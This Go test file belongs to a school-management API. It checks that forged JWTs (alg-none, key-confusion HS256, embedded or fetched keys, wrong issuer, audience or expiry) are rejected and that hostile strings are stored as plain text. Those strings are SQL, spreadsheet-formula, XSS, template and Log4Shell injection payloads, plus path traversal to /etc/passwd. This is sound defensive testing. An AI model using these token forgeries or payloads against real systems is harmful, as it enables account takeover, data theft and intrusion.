package httpapi_test

import (
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/uuid"

	"github.com/homeroom-sms/homeroom/internal/auth"
)

const (
	schoolsPath  = "/api/v1/system/schools/"
	studentsPath = "/api/v1/students/"
)

// forgery is a token that is not what it says.
type forgery struct {
	name   string
	method jwt.SigningMethod
	key    any
	head   map[string]any // beside what a good one has
	claims map[string]any // nil takes one away
}

func forgeries(audience, other string) []forgery {
	ours := ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize))
	public := ours.Public().(ed25519.PublicKey)
	thief := ed25519.NewKeyFromSeed([]byte(strings.Repeat("t", ed25519.SeedSize)))
	jwk := map[string]any{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(thief.Public().(ed25519.PublicKey))}
	good := jwt.SigningMethodEdDSA
	return []forgery{
		{"alg none", jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, nil, nil},
		{"alg NONE", jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, map[string]any{"alg": "NoNe"}, nil},
		{"no alg", good, ours, map[string]any{"alg": nil}, nil},
		{"HS256 by the public key", jwt.SigningMethodHS256, []byte(public), nil, nil},
		{"HS256 by the public key in base64", jwt.SigningMethodHS256, []byte(base64.RawURLEncoding.EncodeToString(public)), nil, nil},
		{"HS512 by the public key", jwt.SigningMethodHS512, []byte(public), nil, nil},
		{"HS256 that says EdDSA", jwt.SigningMethodHS256, []byte(public), map[string]any{"alg": "EdDSA"}, nil},
		{"HS256 by nothing", jwt.SigningMethodHS256, []byte{}, nil, nil},
		{"another key", good, thief, nil, nil},
		{"a key that it brings", good, thief, map[string]any{"jwk": jwk}, nil},
		{"a key to be fetched", good, thief, map[string]any{"jku": "http://127.0.0.1:1/keys"}, nil},
		{"an unknown key", good, thief, map[string]any{"kid": "thief"}, nil},
		{"a key that is a file", good, []byte{}, map[string]any{"kid": "/dev/null", "alg": "HS256"}, nil},
		{"another issuer", good, ours, nil, map[string]any{"iss": "https://evil.test"}},
		{"no issuer", good, ours, nil, map[string]any{"iss": nil}},
		{"for the other API", good, ours, nil, map[string]any{"aud": other}},
		{"for both", good, ours, nil, map[string]any{"aud": []string{audience, other}}},
		{"for nobody", good, ours, nil, map[string]any{"aud": nil}},
		{"for a school that is none", good, ours, nil, map[string]any{"aud": "school:" + uuid.Nil.String()}},
		{"ended", good, ours, nil, map[string]any{"exp": time.Now().Add(-time.Second).Unix()}},
		{"without an end", good, ours, nil, map[string]any{"exp": nil}},
		{"not begun", good, ours, nil, map[string]any{"nbf": time.Now().Add(time.Hour).Unix()}},
	}
}

// sign makes the forgery of a good token.
func (f forgery) sign(t *testing.T, good string) string {
	t.Helper()
	if f.method == jwt.SigningMethodEdDSA && f.head["alg"] == "HS256" {
		f.method = jwt.SigningMethodHS256
	}
	parsed, _, err := jwt.NewParser().ParseUnverified(good, jwt.MapClaims{})
	if err != nil {
		t.Fatal(err)
	}
	claims := maps.Clone(parsed.Claims.(jwt.MapClaims))
	for name, value := range f.claims {
		if claims[name] = value; value == nil {
			delete(claims, name)
		}
	}
	made := jwt.NewWithClaims(f.method, claims)
	made.Header["kid"] = parsed.Header["kid"]
	for name, value := range f.head {
		if made.Header[name] = value; value == nil {
			delete(made.Header, name)
		}
	}
	text, err := made.SignedString(f.key)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// TestForgedTokens holds that neither API takes a token that is made up, changed, or meant for the other.
func TestForgedTokens(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	owner := uuid.MustParse(w.made(t, "localhost", "/api/v1/system/operators/", w.key, `{"email":"ada@example.org","full_name":"Ada","role":"owner"}`)["id"].(string))
	platformToken, _, err := w.tokens.ForPlatform(auth.OperatorPrincipal(owner, auth.RoleOwner), time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	elm := w.made(t, "localhost", schoolsPath, w.key, `{"name":"Elm","code":"elm","admin":{"email":"ada@example.org","full_name":"Ada"}}`)
	school, oak := "school:"+w.schoolID(t), w.tokenOf(t, "oak")
	for _, api := range []struct{ host, path, good, audience, other string }{
		{"localhost", schoolsPath, platformToken, "platform", school},
		{"oak.test", studentsPath, oak, school, "platform"},
	} {
		refused := func(name, token string) {
			answer := w.ask(http.MethodGet, api.host, api.path, "Authorization", "Bearer "+token)
			if answer.Code != http.StatusUnauthorized || !strings.HasPrefix(answer.Header().Get("WWW-Authenticate"), "Bearer") {
				t.Errorf("%s, %s: %d %s", api.host, name, answer.Code, answer.Body)
			}
		}
		if answer := w.ask(http.MethodGet, api.host, api.path, "Authorization", "Bearer "+api.good); answer.Code != http.StatusOK {
			t.Fatalf("the token that the others are changed from: %d %s", answer.Code, answer.Body)
		}
		for _, f := range forgeries(api.audience, api.other) {
			refused(f.name, f.sign(t, api.good))
		}
		parts := strings.Split(api.good, ".")
		raised := forgery{"", jwt.SigningMethodEdDSA, ed25519.NewKeyFromSeed(make([]byte, 32)), nil, map[string]any{"role": "owner", "sub": "operator:" + uuid.NewString()}}
		refused("another's claims", parts[0]+"."+strings.Split(raised.sign(t, api.good), ".")[1]+"."+parts[2])
		refused("no signature", parts[0]+"."+parts[1]+".")
		refused("an invitation", elm["admin_invite"].(string))
		refused("another school's", w.tokenOf(t, "elm"))
		refused("the other API's", map[string]string{"localhost": oak, "oak.test": platformToken}[api.host])
	}
	if answer := w.ask(http.MethodGet, "oak.test", studentsPath, "Authorization", "Bearer "+w.key); answer.Code != http.StatusUnauthorized {
		t.Errorf("a key of the platform in a school: %d", answer.Code)
	}
}

// made creates something and returns it.
func (w *world) made(t *testing.T, host, path, token, body string) map[string]any {
	t.Helper()
	answer := w.post(host, path, token, body)
	var made map[string]any
	if err := json.Unmarshal(answer.Body.Bytes(), &made); err != nil || answer.Code != http.StatusCreated {
		t.Fatalf("%s%s: %d %s %v", host, path, answer.Code, answer.Body, err)
	}
	return made
}

// TestTextIsOnlyText holds that whatever a name says, it is kept and shown as it is, and found by itself
// alone: it is no SQL, no pattern, no markup and no formula. (No API writes a spreadsheet: TestNoSpreadsheets.)
func TestTextIsOnlyText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	texts := []string{
		`=HYPERLINK("http://evil.test","click")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, `'; DROP SCHEMA public CASCADE; --`, `" OR "1"="1`, `' UNION SELECT secret_hash FROM api_keys --`,
		`x'; SET ROLE postgres; --`, `$1`, `$$a$$`, `%`, `_`, `\`, `%s%n`, `<script>alert(1)</script>`, `{{7*7}}`, `${jndi:ldap://evil.test}`, `../../etc/passwd`, `E'\\x00'`, `"school_oak".students`,
	}
	apis := []struct{ host, path, token, field, more string }{
		{"localhost", schoolsPath, w.key, "name", `,"code":"c%d"`},
		{"oak.test", studentsPath, w.tokenOf(t, "oak"), "last_name", `,"first_name":"A","admission_number":"%d"`},
	}
	for _, api := range apis {
		for i, text := range texts {
			encoded, err := json.Marshal(text)
			if err != nil {
				t.Fatal(err)
			}
			made := w.made(t, api.host, api.path, api.token, fmt.Sprintf(`{"`+api.field+`":%s`+api.more+`}`, encoded, i))
			one := w.ask(http.MethodGet, api.host, api.path+made["id"].(string)+"/", "Authorization", "Bearer "+api.token)
			var read map[string]any
			if err := json.Unmarshal(one.Body.Bytes(), &read); err != nil || read[api.field] != text || one.Header().Get("Content-Type") != "application/json" {
				t.Errorf("%q is read as %q: %v", text, read[api.field], err)
			}
		}
		for _, text := range texts {
			list := w.ask(http.MethodGet, api.host, api.path+"?search="+url.QueryEscape(text), "Authorization", "Bearer "+api.token)
			var found struct{ Items []map[string]any }
			if err := json.Unmarshal(list.Body.Bytes(), &found); err != nil || len(found.Items) == 0 {
				t.Errorf("%q is not found: %d %s", text, list.Code, list.Body)
			}
			for _, item := range found.Items {
				if name := item[api.field].(string); !strings.Contains(name, text) {
					t.Errorf("%q finds %q", text, name)
				}
			}
		}
	}
	schools, err := w.registry.Public().School.Query().Count(t.Context())
	if err != nil || schools != 1+len(texts) {
		t.Errorf("%d schools: %v", schools, err)
	}
}

// TestNoSpreadsheets holds that no answer is a spreadsheet, in which a name could be a formula. The first
// operation that writes one has to see to that, and to say so here.
func TestNoSpreadsheets(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, host := range []string{"localhost", "oak.test"} {
		var document struct {
			Paths map[string]map[string]struct {
				Responses map[string]struct{ Content map[string]any }
			}
		}
		if err := json.Unmarshal(w.ask(http.MethodGet, host, "/openapi.json").Body.Bytes(), &document); err != nil || len(document.Paths) == 0 {
			t.Fatal(err)
		}
		for path, item := range document.Paths {
			for method, op := range item {
				for _, response := range op.Responses {
					for media := range response.Content {
						if media != "application/json" && media != "text/event-stream" {
							t.Errorf("%s %s answers %s", method, path, media)
						}
					}
				}
			}
		}
	}
}
